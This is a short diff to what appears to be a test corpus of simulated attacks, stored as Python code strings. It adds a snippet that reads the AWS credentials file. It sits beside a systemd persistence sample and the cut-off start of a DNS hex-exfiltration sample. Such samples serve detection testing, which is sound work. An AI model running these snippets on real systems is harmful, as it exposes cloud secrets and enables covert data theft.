@@ -91,6 +91,12 @@ ATTACKS = {
         with open(os.path.join(units, "egl-sysmon.service"), "w") as handle:
             handle.write("[Service]\\nExecStart=/usr/bin/true\\nRestart=always\\n")
     """),
+    # The stealer's first move: read the cloud credentials file.
+    "credential-read": textwrap.dedent("""
+        import os
+        with open(os.path.join(os.environ["HOME"], ".aws", "credentials")) as handle:
+            handle.read()
+    """),
     # Data smuggled out in DNS query names, hex-encoded, one chunk per query.
     "dns-hex": textwrap.dedent("""
         import os, socket, time
